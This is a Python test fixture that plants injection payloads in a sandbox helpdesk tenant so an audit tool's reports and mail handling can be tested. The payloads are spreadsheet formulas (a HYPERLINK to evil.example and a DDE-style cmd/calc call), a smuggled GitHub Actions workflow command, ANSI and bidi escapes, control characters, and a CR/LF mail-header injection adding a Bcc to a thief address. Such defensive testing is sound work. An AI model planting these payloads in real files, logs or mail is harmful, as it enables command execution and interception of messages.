"""A hostile sandbox tenant: the attacks a real tenant's text can carry, planted in a generated one.

Technician and queue names, ticket numbers and titles, and note text are the tenant's (e-mail
subjects become titles; anyone who can edit a resource names technicians). :func:`make_hostile`
rewrites a generated :class:`~audit.sandbox.model.Tenant` in place so that it carries:

* spreadsheet formulas (``= + - @``) in a technician name, a queue label and ticket numbers;
* a technician name holding a newline followed by a GitHub Actions workflow command, an ANSI
  escape, a bidi override and a legacy ``##[stop-commands]`` (read anywhere in a line);
* NUL, BEL and ``\\x01`` in ticket titles and a technician name (characters XML cannot hold);
* CR/LF in the zone name, which becomes the tenant's name on the reports and the mail subject;
* a lone surrogate in a ticket title and in a note (the emulator serves it as a ``\\ud800`` JSON
  escape, as a .NET server does for a broken UTF-16 string).

The rules still evaluate as before: only display text changes, never ids, dates or labels the
default mapping relies on.
"""

from __future__ import annotations

from audit.sandbox.model import Tenant

__all__ = ["HOSTILE_NAMES", "HOSTILE_ZONE", "INJECTED_COMMAND", "make_hostile"]

#: The workflow command the newline-bearing technician name tries to start a line with.
INJECTED_COMMAND = "::add-mask::hijacked"

#: (first name, last name) given to the first technicians, in order.
HOSTILE_NAMES: tuple[tuple[str, str], ...] = (
    ('=HYPERLINK("http://evil.example","x")', "Formula Bel\x07 Nul\x00 Ctrl\x01"),
    ("Eve", f"Newline\n{INJECTED_COMMAND}\r\n\x1b[2J\u202eevil ##[stop-commands]pause"),
)
#: The zone name, as zone discovery answers it.
HOSTILE_ZONE = "Hostile\r\nBcc: thief@example.test\r\nZone"
_QUEUE = ("Projects", "+cmd|' /C calc'!A0")
_TICKET_NUMBER = "=1+2 "
_TITLES = ("Printer\x00jam", "Bell\x07 ringing", "Start\x01of heading", "Broken \ud800 surrogate")
_NOTE = "Customer wrote \udc80 in a broken mail client"


def make_hostile(tenant: Tenant) -> Tenant:
    """Plant the attacks above in ``tenant`` (changed in place and returned)."""
    tenant.zone["zoneName"] = HOSTILE_ZONE
    resources = tenant.records["Resources"]
    for resource, (first, last) in zip(resources, HOSTILE_NAMES, strict=False):
        resource["firstName"], resource["lastName"] = first, last
    for field in tenant.fields["Tickets"]:
        if field.get("name") == "queueID":
            for value in field.get("picklistValues") or []:
                if value.get("label") == _QUEUE[0]:
                    value["label"] = _QUEUE[1]
    tickets = tenant.records["Tickets"]
    for ticket in tickets[3::5]:
        ticket["ticketNumber"] = _TICKET_NUMBER + str(ticket.get("ticketNumber"))
    # Every few tickets, so that some of them land in any audited week.
    for i, ticket in enumerate(tickets[1::7]):
        ticket["title"] = f"{_TITLES[i % len(_TITLES)]} {ticket.get('title') or ''}".strip()
    notes = tenant.records["TicketNotes"]
    for note in notes[::50]:
        note["description"] = f"{_NOTE}. {note.get('description') or ''}"
    return tenant
